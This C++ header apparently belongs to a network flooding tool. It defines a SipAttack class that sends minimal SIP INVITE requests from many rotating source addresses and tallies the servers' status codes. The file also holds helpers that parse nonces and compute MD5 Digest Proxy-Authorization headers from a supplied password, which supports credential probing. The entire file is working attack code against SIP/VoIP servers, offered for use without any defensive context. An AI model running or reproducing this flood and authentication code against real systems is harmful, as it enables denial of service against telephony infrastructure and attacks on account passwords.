#pragma once
// An attack that speaks SIP: requests as short as they may be, and what can be read from an answer.

#include <charconv>
#include <string>
#include <string_view>

#include "attack.h"
#include "base/hash.h"

namespace portico::flood {

inline constexpr std::string_view kCnonce = "0a4f113b";

inline int status_of(std::string_view message) {
  int status = 0;
  if (message.starts_with("SIP/2.0 ")) std::from_chars(message.data() + 8, message.data() + 11, status);
  return status;
}

inline std::string field(std::string_view message, std::string_view name) {
  const auto at = message.find("\r\n" + std::string(name) + ": ");
  if (at == std::string_view::npos) return {};
  const auto from = at + name.size() + 4;
  return std::string(message.substr(from, message.find("\r\n", from) - from));
}

inline std::string nonce_of(std::string_view message) {
  const auto at = message.find("nonce=\"");
  if (at == std::string_view::npos) return {};
  return std::string(message.substr(at + 7, message.find('"', at + 7) - at - 7));
}

class SipAttack : public Attack {
 public:
  explicit SipAttack(const Options& options)
      : options_(options),
        run_(random_hex(6)),
        uri_("sip:" + options.user + "@" + options.target.to_string()) {}

  void send_one(ManySources& sources, std::uint64_t turn) override {
    const auto source = turn % sources.size();
    sources.send(source, options_.target, request(sources, source, std::to_string(turn), "INVITE", 1, ""));
  }

  void on_datagram(ManySources&, std::size_t, std::string_view bytes) override {
    ++statuses[status_of(bytes)];
  }

 protected:
  // As short as a request may be: the attacker pays with bytes for each answer. `call` names the call.
  std::string request(const ManySources& sources, std::size_t source, const std::string& call,
                      const std::string& method, int cseq, const std::string& more) const {
    const auto number = std::to_string(cseq);
    const auto here = sources.address(source) + ":" + std::to_string(sources.port());
    return method + " " + uri_ + " SIP/2.0\r\nVia: SIP/2.0/UDP " + here + ";rport;branch=z9hG4bK" + call +
           "." + number + "\r\nFrom: <sip:f@" + sources.address(source) + ">;tag=" + call + "\r\nTo: <" +
           uri_ + ">\r\nCall-ID: " + run_ + "." + call + "\r\nCSeq: " + number + " " + method +
           "\r\nMax-Forwards: 70\r\nContact: <sip:f@" + here + ">\r\n" + more + "Content-Length: 0\r\n\r\n";
  }

  // The call that an answer belongs to.
  std::string call_of(std::string_view answer) const {
    const auto id = field(answer, "Call-ID");
    return id.size() > run_.size() + 1 ? id.substr(run_.size() + 1) : std::string();
  }

  std::string proof(const std::string& nonce, const std::string& password) const {
    const auto hash = [](std::initializer_list<std::string_view> parts) {
      return hash_hex(HashAlgorithm::md5, parts);
    };
    const auto ha1 = hash({options_.user, ":", options_.realm, ":", password});
    const auto ha2 = hash({"INVITE:", uri_});
    return "Proxy-Authorization: Digest username=\"" + options_.user + "\", realm=\"" + options_.realm +
           "\", nonce=\"" + nonce + "\", uri=\"" + uri_ + "\", qop=auth, nc=00000001, cnonce=\"" +
           std::string(kCnonce) + "\", response=\"" +
           hash({ha1, ":", nonce, ":00000001:", kCnonce, ":auth:", ha2}) + "\", algorithm=MD5\r\n";
  }

  const Options options_;
  const std::string run_;
  const std::string uri_;
};

}  // namespace portico::flood
